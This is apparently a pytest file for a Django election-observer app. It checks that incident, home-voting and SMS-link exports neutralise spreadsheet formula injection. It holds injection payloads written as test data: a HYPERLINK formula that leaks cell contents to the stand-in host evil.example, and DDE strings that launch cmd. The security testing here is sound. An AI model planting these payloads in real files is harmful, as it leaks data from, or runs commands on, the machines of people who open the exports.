"""Audit finding 6: the situational center's spreadsheets never carry a live formula from an
observer's, a caller's or an imported text (incidents.xlsx, home-voting.xlsx, the SMS links CSV)."""

from __future__ import annotations

import csv
from io import BytesIO, StringIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from otklik.elections import hotline, reports
from otklik.elections.models import CallKind, ReportKind
from otklik.testing.factories import PASSWORD

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Открыть фото")'
OTHERS = ["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def assert_no_formula(sheet, *texts: str) -> None:
    found = {}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                found[cell.value] = cell
    for text in texts:  # shown exactly as written, marked as text
        assert text in found and found[text].quotePrefix, text


def test_the_incidents_spreadsheet_has_no_live_formula(client, day):
    reports.file_report(
        observer=day["anna"],
        election=day["election"],
        kind=ReportKind.VIOLATION,
        text=f"{EVIL} вброс на участке",
    )
    incident = reports.file_report(
        observer=day["anna"],
        election=day["election"],
        kind=ReportKind.VIOLATION,
        text="Вброс бюллетеней у урны",
    ).incident
    reports.take_incident(incident, day["lawyer"])
    reports.close_incident(incident, day["lawyer"], status="resolved", resolution=OTHERS[2])
    client.login(username="lawyer", password=PASSWORD)
    sheet = load_workbook(BytesIO(client.get("/elections/incidents.xlsx").content)).active
    assert_no_formula(sheet, f"{EVIL} вброс на участке", OTHERS[2])


def test_the_home_voting_spreadsheet_has_no_live_formula(client, day):
    for name, text in ((EVIL, OTHERS[0]), ("Иванова Мария", OTHERS[1])):
        hotline.take_call(
            operator=day["chief"],
            election=day["election"],
            kind=CallKind.HOME_VOTING,
            phone="+7 927 000-11-22",
            caller_name=name,
            text=text,
            station=day["s1"],
        )
    client.login(username="chief", password=PASSWORD)
    sheet = load_workbook(BytesIO(client.get("/elections/calls/home-voting.xlsx").content)).active
    assert_no_formula(sheet, EVIL, OTHERS[0], OTHERS[1])


def test_the_links_csv_for_sms_neutralizes_formulas(tmp_path, day):
    table = tmp_path / "observers.csv"
    with table.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["station", "full_name", "phone", "email"])
        writer.writerow(["101", EVIL, "+7 927 000-11-22", ""])
    links = tmp_path / "links.csv"
    call_command(
        "import_observers",
        str(table),
        "--links",
        str(links),
        "--no-email",
        stdout=StringIO(),
        stderr=StringIO(),
    )
    rows = list(csv.reader(links.open(encoding="utf-8")))
    assert rows[1][1] == "'" + EVIL
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "@", "\t", "\r")), value
